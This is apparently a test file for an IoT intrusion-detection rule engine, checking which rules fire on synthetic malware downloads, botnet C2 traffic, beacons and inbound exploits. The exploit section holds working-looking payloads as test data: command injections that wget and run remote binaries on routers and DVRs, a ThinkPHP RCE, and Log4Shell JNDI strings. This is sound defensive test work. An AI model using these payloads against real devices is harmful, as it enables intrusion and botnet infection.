// The behaviour and exploits packs on hand-built events: which rule fires, at what severity, and what must not fire.
import { describe, expect, it } from 'vitest';
import { loadRulePacks, RuleEngine } from '../../rules/engine/engine.js';
import { defaultRuleDirs } from '../../sensor/analyze.js';
import type {
  BtDhtEvent, ConnEvent, FileTransferEvent, HttpRequestEvent, TcpSynEvent, TcpTextEvent, TelnetDataEvent, TftpEvent, WaakhondEvent,
} from '../../sensor/events.js';

const S = 1_000_000;
const T0 = 1_800_000_000 * S;
const CAM = 'c0:56:e3:17:8a:4d';
const LAPTOP = '3c:a9:f4:5e:21:7a';
const ROUTER = 'e0:28:6d:4a:10:01';
const CAM_IP = '192.168.178.40';

const { rules, errors } = loadRulePacks(defaultRuleDirs());

/** Run events through the real packs; kinds stand in for the inventory (severity_by_kind). */
function alerts(events: WaakhondEvent[], kinds: Record<string, string> = {}): { rule: string; severity: string; device: string | null; summary: string }[] {
  const eng = new RuleEngine(rules, { deviceKind: (d) => kinds[d] ?? null });
  for (const e of events) eng.observe(e);
  return eng.alerts().map((a) => ({ rule: a.rule, severity: a.severity, device: a.device, summary: a.summary }));
}
const rulesOf = (a: { rule: string }[]): string[] => a.map((x) => x.rule).sort();

const out = { src_mac: CAM, dst_mac: ROUTER, src_ip: CAM_IP, direction: 'outbound' as const };
const back = { src_mac: ROUTER, dst_mac: CAM, dst_ip: CAM_IP, direction: 'inbound' as const };

function file(o: Partial<FileTransferEvent>): FileTransferEvent {
  return {
    type: 'file_transfer', ts: T0, ...out, dst_ip: '94.156.8.44', src_port: 41000, dst_port: 80, protocol: 'http', receiver: 'client',
    host: '94.156.8.44', uri: '/ntpd', content_type: 'application/octet-stream', file_type: 'elf', elf_arch: 'arm', elf_bits: 32,
    elf_endian: 'little', script_commands: [], head_hex: '7f454c46010101', ...o,
  };
}
function text(o: Partial<TcpTextEvent>): TcpTextEvent {
  return { type: 'tcp_text', ts: T0, ...out, dst_ip: '45.9.148.99', src_port: 41000, dst_port: 9999, from: 'client', text: '', irc_commands: [], length: 10, ...o };
}
function fromServer(o: Partial<TcpTextEvent>): TcpTextEvent {
  return text({ ...back, src_ip: '45.9.148.99', src_port: 9999, dst_port: 41000, from: 'server', ...o });
}
function telnet(o: Partial<TelnetDataEvent>): TelnetDataEvent {
  return { type: 'telnet_data', ts: T0, ...back, src_ip: '94.156.8.45', src_port: 23, dst_port: 41999, from: 'server', text: '', hex: '', length: 5, ...o };
}
function http(o: Partial<HttpRequestEvent>): HttpRequestEvent {
  return {
    type: 'http_request', ts: T0, src_mac: ROUTER, dst_mac: CAM, src_ip: '141.98.11.23', dst_ip: CAM_IP, direction: 'inbound',
    src_port: 51000, dst_port: 80, method: 'GET', uri: '/', version: 'HTTP/1.1', host: null, user_agent: 'Hello, World', body: null, ...o,
  };
}
function conn(o: Partial<ConnEvent>): ConnEvent {
  return {
    type: 'conn', ts: T0, end_ts: T0 + 15 * S, ...out, dst_ip: '185.244.25.11', proto: 'tcp', ip_proto: 6, src_port: 40000, dst_port: 6667,
    state: 'S0', orig_pkts: 5, orig_bytes: 0, resp_pkts: 0, resp_bytes: 0, reason: 'idle', ...o,
  };
}
function dht(o: Partial<BtDhtEvent>): BtDhtEvent {
  return { type: 'bt_dht', ts: T0, ...out, dst_ip: '82.221.103.244', src_port: 20000, dst_port: 6881, kind: 'query', method: 'find_node', node_id: 'aa'.repeat(20), ...o };
}

it('the packs load without errors', () => {
  expect(errors).toEqual([]);
  expect(rules.filter((r) => r.id.startsWith('behaviour.') || r.id.startsWith('exploits.')).length).toBeGreaterThanOrEqual(25);
});

describe('downloads, by content', () => {
  it('ELF from a bare IP over HTTP: critical, naming the architecture and the URL', () => {
    const a = alerts([file({})]);
    expect(rulesOf(a)).toEqual(['behaviour.download.elf-bare-ip']);
    expect(a[0]!.severity).toBe('critical');
    expect(a[0]!.summary).toContain('arm');
    expect(a[0]!.summary).toContain('http://94.156.8.44/ntpd');
  });
  it('ELF from a named host: low (vendors do it: D-Link agents from S3 in IoT Sentinel), not the bare-IP rule', () => {
    const a = alerts([file({ host: 'cdn.example-vendor.com', uri: '/fw/update' })]);
    expect(a.map((x) => [x.rule, x.severity])).toEqual([['behaviour.download.elf-named-host', 'low']]);
  });
  it('ELF over TFTP, FTP or raw TCP: critical', () => {
    for (const protocol of ['tftp', 'ftp', 'tcp'] as const) {
      expect(rulesOf(alerts([file({ protocol, host: null })]))).toEqual(['behaviour.download.elf-no-http']);
    }
  });
  it('an upload (the device sends an ELF) or a non-executable does not count as a download', () => {
    expect(alerts([file({ receiver: 'server' })])).toEqual([]);
    expect(alerts([file({ file_type: 'archive', elf_arch: null })])).toEqual([]);
    expect(alerts([file({ file_type: 'pe', elf_arch: null })])).toEqual([]);
  });
  it('a dropper script names wget/curl/tftp; a script without download commands is not one', () => {
    expect(rulesOf(alerts([file({ file_type: 'script', elf_arch: null, uri: '/bins.sh', script_commands: ['wget', 'chmod'] })])))
      .toEqual(['behaviour.download.dropper-script']);
    expect(alerts([file({ file_type: 'script', elf_arch: null, uri: '/x.sh', script_commands: ['chmod'] })])).toEqual([]);
  });
  it('a TFTP read request to the internet is high; to the LAN it is nothing', () => {
    const rq = (dst: string): TftpEvent => ({ type: 'tftp', ts: T0, ...out, dst_ip: dst, src_port: 5000, dst_port: 69, op: 'read', filename: 'mips', mode: 'octet' });
    expect(alerts([rq('94.156.8.44')]).map((x) => [x.rule, x.severity])).toEqual([['behaviour.download.tftp-internet', 'high']]);
    expect(alerts([{ ...rq('192.168.178.5'), direction: 'internal' }])).toEqual([]);
  });
});

describe('text and IRC C2', () => {
  it('Gafgyt orders "!* SCANNER ON" on any port and on a telnet port: critical on the device that receives them', () => {
    const a = alerts([fromServer({ text: 'PING\n!* SCANNER ON\n' })]);
    expect(a.map((x) => [x.rule, x.severity, x.device])).toEqual([['behaviour.c2.text-orders', 'critical', CAM]]);
    const b = alerts([telnet({ text: '!* UDP 1.2.3.4 80 60 32 0 10\n' })]);
    expect(b.map((x) => [x.rule, x.device])).toEqual([['behaviour.c2.text-orders-telnet-port', CAM]]);
  });
  it('lower-case chat lines starting with "!" are not orders', () => {
    expect(alerts([fromServer({ text: '!help me with this\n' })])).toEqual([]);
    expect(alerts([telnet({ text: '!ls -la\n' })])).toEqual([]);
  });
  it('BUILD <ARCH> and "PONG!" are the Gafgyt check-in; a bare PONG (NATS) or IRC "PONG :server" is not, except on a telnet port', () => {
    expect(rulesOf(alerts([text({ text: 'BUILD MIPS\n', dst_port: 666 })]))).toEqual(['behaviour.c2.text-keepalive']);
    expect(rulesOf(alerts([text({ text: 'PONG!\n' })]))).toEqual(['behaviour.c2.text-keepalive']);
    expect(alerts([text({ text: 'PONG\r\n', dst_port: 4222 })])).toEqual([]);
    expect(alerts([text({ text: 'PONG :irc.libera.chat\n', irc_commands: ['PONG'] })])).toEqual([]);
    const bare = telnet({ ...out, dst_ip: '94.156.8.45', src_port: 41999, dst_port: 23, from: 'client', text: 'PONG\n' });
    expect(rulesOf(alerts([bare]))).toEqual(['behaviour.c2.text-keepalive-telnet-port']);
  });
  it('IRC login: high from a camera, low from a computer, low when the kind is unknown', () => {
    const login = text({ text: 'NICK x86|muhstik|1\nUSER muhstik localhost localhost :muhstik-1\n', irc_commands: ['NICK', 'USER'] });
    expect(alerts([login], { [CAM]: 'camera' }).map((x) => [x.rule, x.severity])).toEqual([['behaviour.c2.irc-login', 'high']]);
    expect(alerts([login], { [CAM]: 'computer' }).map((x) => x.severity)).toEqual(['low']);
    expect(alerts([login]).map((x) => x.severity)).toEqual(['low']);
  });
  it('IRC orders in a channel message are critical; ordinary chat is not', () => {
    expect(rulesOf(alerts([fromServer({ text: ':op!op@h PRIVMSG #ssh :!* SCANNER ON\r\n', irc_commands: ['PRIVMSG'] })]))).toEqual(['behaviour.c2.irc-orders']);
    expect(rulesOf(alerts([fromServer({ text: ':a!b@c PRIVMSG #bots :.TSUNAMI 1.2.3.4 60\r\n', irc_commands: ['PRIVMSG'] })]))).toEqual(['behaviour.c2.irc-orders']);
    expect(alerts([fromServer({ text: ':ann!a@h PRIVMSG #linux :!seen bob yesterday?\r\n', irc_commands: ['PRIVMSG'] })])).toEqual([]);
  });
});

describe('C2 that does not answer', () => {
  const attempts = (n: number, port: number, gap = 90): ConnEvent[] =>
    Array.from({ length: n }, (_, i) => conn({ ts: T0 + i * gap * S, end_ts: T0 + i * gap * S + 15 * S, src_port: 40000 + i, dst_port: port }));
  it('3 unanswered attempts to an IRC port: high; 2 are not enough', () => {
    expect(rulesOf(alerts(attempts(3, 6667)))).toEqual(['behaviour.c2.unanswered-retries-c2-port']);
    expect(alerts(attempts(2, 6667))).toEqual([]);
  });
  it('5 unanswered attempts to another port: medium; 4 are not enough; web ports (cloud retries) are left out', () => {
    expect(alerts(attempts(5, 5555)).map((x) => [x.rule, x.severity])).toEqual([['behaviour.c2.unanswered-retries', 'medium']]);
    expect(alerts(attempts(4, 5555))).toEqual([]);
    expect(alerts(attempts(8, 443))).toEqual([]);
  });
  it('answered connections, and attempts further apart than the window, do not count', () => {
    expect(alerts(attempts(6, 6667).map((c) => ({ ...c, state: 'SF' as const, resp_pkts: 4 })))).toEqual([]);
    expect(alerts(attempts(6, 6667, 31 * 60))).toEqual([]);
  });
  it('a SYN flood to one target (hundreds of unanswered connections a second) is not a bot calling home', () => {
    const flood = Array.from({ length: 300 }, (_, i) => conn({ ts: T0 + i * 5000, end_ts: T0 + i * 5000, src_port: 1024 + i, dst_port: 6667, orig_pkts: 1 }));
    expect(alerts(flood)).toEqual([]);
  });
  it('the beacon counts connections, not SYNs: 21 attempts 30 s apart, each SYN retransmitted 4 times', () => {
    const evs: WaakhondEvent[] = [];
    for (let i = 0; i < 21; i++) {
      const t = T0 + i * 30 * S;
      for (const d of [0, 1, 3, 7, 15]) {
        const syn: TcpSynEvent = { type: 'tcp_syn', ts: t + d * S, ...out, dst_ip: '185.244.25.11', src_port: 40000 + i, dst_port: 443, seq: 1, window: 29200, ttl: 64, options_length: 20, mirai_seq: false, ecn: false };
        evs.push(syn);
      }
      evs.push(conn({ ts: t, end_ts: t + 15 * S, src_port: 40000 + i, dst_port: 443 }));
    }
    expect(rulesOf(alerts(evs))).toContain('generic.beacon.periodic');
  });
});

describe('BitTorrent DHT', () => {
  const queries = (n: number, dev = CAM): BtDhtEvent[] => Array.from({ length: n }, (_, i) => dht({ ts: T0 + i * S, src_mac: dev, dst_ip: `82.221.${i}.${10 + i}` }));
  it('5 DHT peers: high from a camera, low from a computer or an unknown device; 4 peers nothing', () => {
    expect(alerts(queries(5), { [CAM]: 'camera' }).map((x) => [x.rule, x.severity])).toEqual([['behaviour.p2p.bt-dht', 'high']]);
    expect(alerts(queries(5, LAPTOP), { [LAPTOP]: 'computer' }).map((x) => x.severity)).toEqual(['low']);
    expect(alerts(queries(5)).map((x) => x.severity)).toEqual(['low']);
    expect(alerts(queries(4), { [CAM]: 'camera' })).toEqual([]);
  });
});

describe('inbound exploits (as data, each with its CVE)', () => {
  const cases: [string, Partial<HttpRequestEvent>][] = [
    ['exploits.http.jaws-dvr-shell', { uri: '/shell?cd+/tmp;rm+-rf+*;wget+http://141.98.11.30/jaws;sh+/tmp/jaws' }],
    ['exploits.http.gpon-diag-form', { method: 'POST', uri: '/GponForm/diag_Form?images/', body: 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://1.2.3.4/x+-O+->/tmp/x;sh+/tmp/x`&ipv=0' }],
    ['exploits.http.huawei-hg532', { method: 'POST', uri: '/ctrlt/DeviceUpgrade_1', dst_port: 37215, body: '<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/x -r /x)</NewStatusURL>' }],
    ['exploits.http.realtek-miniigd', { method: 'POST', uri: '/picsdesc.xml', dst_port: 52869, body: '<NewInternalClient>`cd /var; wget http://1.2.3.4/x`</NewInternalClient>' }],
    ['exploits.http.netgear-setup-cgi', { uri: '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4/x+-O+/tmp/x;sh+netgear&curpath=/&currentsetting.htm=1' }],
    ['exploits.http.thinkphp-rce', { uri: '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget http://1.2.3.4/x' }],
    ['exploits.http.zyxel-weblogin', { uri: "/adv,/cgi-bin/weblogin.cgi?username=admin';cd /tmp;wget http://1.2.3.4/x;sh x&password=asdf" }],
    ['exploits.http.zyxel-viewlog', { method: 'POST', uri: '/cgi-bin/ViewLog.asp', body: 'remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;wget+http://1.2.3.4/x;sh+x%3b%23' }],
    ['exploits.http.dlink-hnap', { method: 'POST', uri: '/HNAP1/' }],
    ['exploits.http.log4shell', { uri: '/?x=${jndi:ldap://1.2.3.4:1389/a}' }],
    ['exploits.http.log4shell-body', { method: 'POST', uri: '/login', body: 'uname=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%3A1389%2Fa%7D&password=' }],
    ['exploits.http.log4shell-user-agent', { user_agent: '${${lower:j}ndi:ldap://1.2.3.4/a}' }],
  ];
  for (const [id, o] of cases) {
    it(`${id}: medium on the device attacked, with close-port-forward advice`, () => {
      const eng = new RuleEngine(rules);
      eng.observe(http(o));
      const hit = eng.alerts().filter((a) => a.rule === id);
      expect(hit.map((a) => [a.severity, a.device, a.advice])).toEqual([['medium', CAM, 'close-port-forward']]);
      // Nothing above medium from a request alone.
      expect(eng.alerts().filter((a) => a.severity === 'high' || a.severity === 'critical')).toEqual([]);
    });
  }
  it('the generic rule sees a download command in the URI or the body, whatever the CVE', () => {
    expect(rulesOf(alerts([http({ uri: '/cgi-bin/x.cgi?ip=1;wget%20http://5.6.7.8/y%20-O%20/tmp/y' })]))).toEqual(['exploits.http.download-command-uri']);
    expect(rulesOf(alerts([http({ method: 'POST', uri: '/cgi-bin/x.cgi', body: 'cmd=curl -s -o /tmp/y http://5.6.7.8/y' })]))).toEqual(['exploits.http.download-command-body']);
  });
  it('ordinary requests to a device are nothing: its pages, a setup.cgi page, HNAP and UPnP calls from the LAN, the word wget in a path', () => {
    expect(alerts([
      http({ uri: '/doc/page/login.asp?_1700000000' }), http({ uri: '/setup.cgi?next_file=index.htm' }), http({ uri: '/shell.html' }),
      http({ uri: '/docs/how-to-use-wget-and-curl.html' }), http({ method: 'GET', uri: '/HNAP1/' }),
      ...['/HNAP1/', '/picsdesc.xml', '/cgi-bin/ViewLog.asp'].map((uri) =>
        http({ method: 'POST', uri, src_ip: '192.168.178.21', src_mac: 'da:a1:19:6b:3c:02', direction: 'internal', body: null })),
    ])).toEqual([]);
  });
  it('an exploit then a download by the same device: the chain rule raises high', () => {
    const a = alerts([http({ uri: '/shell?cd+/tmp;wget+http://141.98.11.30/jaws;sh+/tmp/jaws' }), file({ ts: T0 + 3 * S, dst_ip: '141.98.11.30', host: '141.98.11.30', uri: '/bins/x.arm7' })]);
    expect(a.filter((x) => x.rule === 'exploits.chain.exploit-then-download').map((x) => [x.severity, x.device])).toEqual([['high', CAM]]);
  });
  it('an exploit then a connection to an unusual port: the connect chain; to port 443 it is not', () => {
    const syn = (port: number): TcpSynEvent => ({ type: 'tcp_syn', ts: T0 + 5 * S, ...out, dst_ip: '141.98.11.31', src_port: 40001, dst_port: port, seq: 1, window: 29200, ttl: 64, options_length: 20, mirai_seq: false, ecn: false });
    expect(rulesOf(alerts([http({ uri: '/shell?id' }), syn(6667)]))).toContain('exploits.chain.exploit-then-connect');
    expect(rulesOf(alerts([http({ uri: '/shell?id' }), syn(443)]))).not.toContain('exploits.chain.exploit-then-connect');
  });
});
